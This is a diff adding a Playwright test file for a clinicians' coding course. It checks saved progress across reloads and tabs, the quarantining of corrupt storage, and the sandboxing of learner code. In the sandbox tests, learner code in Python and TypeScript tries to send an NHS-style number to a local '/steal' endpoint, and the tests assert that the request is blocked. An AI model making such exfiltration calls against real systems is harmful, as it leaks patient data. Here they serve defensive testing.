@@ -1,0 +1,151 @@
+// The learner's work and progress: kept across reloads and tabs, survives corrupt storage, and cannot leave the device.
+import { createServer, type Server } from 'node:http';
+import { readFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import type { Locator, Page } from '@playwright/test';
+import { test, expect } from './fixtures';
+
+const content = (path: string) => readFileSync(fileURLToPath(new URL(`../../content/${path}`, import.meta.url)), 'utf8');
+const BMI_LESSON = 'python-first-steps/functions-and-return/';
+const TS_LESSON = 'typescript-and-fhir/types-and-functions/';
+
+test.setTimeout(150_000);
+
+async function plainBlock(page: Page, lesson: string, name: string): Promise<Locator> {
+  await page.goto(lesson);
+  const block = page.getByRole('region', { name });
+  const plain = block.getByRole('checkbox', { name: 'Use the plain editor' });
+  if (!(await plain.isChecked())) await plain.check();
+  return block;
+}
+
+const bmiBlock = (page: Page) => plainBlock(page, BMI_LESSON, 'Exercise Calculate a BMI');
+const resultsHeading = (block: Locator) => block.locator('[data-results]').getByRole('heading', { level: 3 });
+
+/** The code saved for an exercise in this browser's IndexedDB, as another tab would read it. */
+function storedCode(page: Page, exerciseId: string): Promise<string | undefined> {
+  return page.evaluate(async (key) => {
+    const db = await new Promise<IDBDatabase>((resolve, reject) => {
+      const open = indexedDB.open('clinicians-who-code-progress');
+      open.onsuccess = () => resolve(open.result);
+      open.onerror = () => reject(open.error);
+    });
+    const record = await new Promise<{ code?: string } | undefined>((resolve) => {
+      const request = db.transaction('records').objectStore('records').get(key);
+      request.onsuccess = () => resolve(request.result as { code?: string } | undefined);
+    });
+    db.close();
+    return record?.code;
+  }, `exercise/${exerciseId}`);
+}
+
+test('a solved exercise and its code are still there after a reload', async ({ page }) => {
+  const block = await bmiBlock(page);
+  await block.locator('textarea').fill(content('02-python-first-steps/exercises/bmi/solution.py'));
+  await block.getByRole('button', { name: 'Check' }).click();
+  await expect(resultsHeading(block)).toHaveText(/^Well done!/, { timeout: 90_000 });
+  await page.reload();
+  await expect(block.locator('textarea')).toHaveValue(content('02-python-first-steps/exercises/bmi/solution.py'));
+  await expect(page.getByRole('navigation', { name: 'Course contents' }).getByRole('link', { name: 'Functions and return (done)' })).toBeVisible();
+  await page.goto('progress/');
+  await expect(page.getByRole('row', { name: /Calculate a BMI/ }).getByRole('cell', { name: 'Passed ✓' })).toBeVisible();
+});
+
+test('two tabs on the same lesson: the code typed last is kept, and neither tab loses its work', async ({ page, context }) => {
+  const first = await bmiBlock(page);
+  await first.locator('textarea').fill('# typed in the first tab\n');
+  await expect.poll(() => storedCode(page, 'bmi')).toBe('# typed in the first tab\n'); // autosaved as they type
+  const other = await context.newPage();
+  const second = await bmiBlock(other);
+  await expect(second.locator('textarea')).toHaveValue('# typed in the first tab\n');
+  await second.locator('textarea').fill('# then typed in the second tab\n');
+  await expect.poll(() => storedCode(other, 'bmi')).toBe('# then typed in the second tab\n');
+  await page.reload(); // the first tab's own unload must not put its older code back
+  await expect(first.locator('textarea')).toHaveValue('# then typed in the second tab\n');
+});
+
+test('corrupt stored progress is set aside with a plain message, and the course still works', async ({ page }) => {
+  const block = await bmiBlock(page);
+  await block.locator('textarea').fill('# my work\n');
+  await expect.poll(() => storedCode(page, 'bmi')).toBe('# my work\n');
+  // Scribble over the stored record, as a crash or a broken extension might.
+  await page.evaluate(async () => {
+    const db = await new Promise<IDBDatabase>((resolve, reject) => {
+      const open = indexedDB.open('clinicians-who-code-progress');
+      open.onsuccess = () => resolve(open.result);
+      open.onerror = () => reject(open.error);
+    });
+    const tx = db.transaction('records', 'readwrite');
+    const store = tx.objectStore('records');
+    const keys = await new Promise<IDBValidKey[]>((resolve) => {
+      const request = store.getAllKeys();
+      request.onsuccess = () => resolve(request.result);
+    });
+    for (const key of keys.filter((k) => String(k).includes('bmi'))) store.put({ version: 1, garbage: '\u0000not a record' }, key);
+    await new Promise((resolve) => (tx.oncomplete = resolve));
+    db.close();
+  });
+  await page.reload();
+  await expect(page.locator('[data-storage-banner]')).toContainText("Some progress saved on this device couldn't be read");
+  await expect(block.locator('textarea')).toHaveValue(content('02-python-first-steps/exercises/bmi/starter.py'));
+  await block.getByRole('button', { name: 'Check' }).click();
+  await expect(resultsHeading(block)).toHaveText(/^Not yet/, { timeout: 90_000 });
+  // Nothing was deleted: the unreadable record is in the quarantine store.
+  const quarantined = await page.evaluate(async () => {
+    const db = await new Promise<IDBDatabase>((resolve) => {
+      const open = indexedDB.open('clinicians-who-code-progress');
+      open.onsuccess = () => resolve(open.result);
+    });
+    const count = await new Promise<number>((resolve) => {
+      const request = db.transaction('quarantine').objectStore('quarantine').count();
+      request.onsuccess = () => resolve(request.result);
+    });
+    db.close();
+    return count;
+  });
+  expect(quarantined).toBeGreaterThan(0);
+});
+
+test.describe('learner code cannot send data to another website', () => {
+  let server: Server;
+  let hits = 0;
+  let origin = '';
+  test.beforeAll(async () => {
+    server = createServer((_req, res) => {
+      hits += 1;
+      res.end('received');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    origin = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
+  });
+  test.afterAll(() => server.close());
+
+  for (const serviceWorkers of ['block', 'allow'] as const) {
+    test.describe(`service worker: ${serviceWorkers}`, () => {
+      test.use({ serviceWorkers });
+
+      test('from Python', async ({ page }) => {
+        hits = 0;
+        const block = await bmiBlock(page);
+        if (serviceWorkers === 'allow') await page.waitForFunction(() => crossOriginIsolated, undefined, { timeout: 60_000 });
+        await block.locator('textarea').fill(`from pyodide.http import open_url\nprint(open_url("${origin}/steal?nhs=9990000018").read())\n`);
+        await block.getByRole('button', { name: 'Run' }).click();
+        await expect(block.locator('[data-output]')).toContainText('does not let code connect to other websites', { timeout: 90_000 });
+        expect(hits).toBe(0);
+      });
+
+      test('from TypeScript', async ({ page }) => {
+        hits = 0;
+        const block = await plainBlock(page, TS_LESSON, 'Exercise Score a temperature for NEWS2, with types');
+        if (serviceWorkers === 'allow') await page.waitForFunction(() => crossOriginIsolated, undefined, { timeout: 60_000 });
+        await block.locator('textarea').fill(
+          // Typed as any: the exercise's TypeScript has no DOM types, and a type error would stop the code first.
+          `const Request = (globalThis as any).XMLHttpRequest;\nconst request = new Request();\nrequest.open("GET", "${origin}/steal?nhs=9990000018", false);\nrequest.send();\nconsole.log(request.responseText);\nexport {};\n`,
+        );
+        await block.getByRole('button', { name: 'Run' }).click();
+        await expect(block.getByText(/does not let code connect to other websites/).first()).toBeVisible({ timeout: 90_000 });
+        expect(hits).toBe(0);
+      });
+    });
+  }
+});
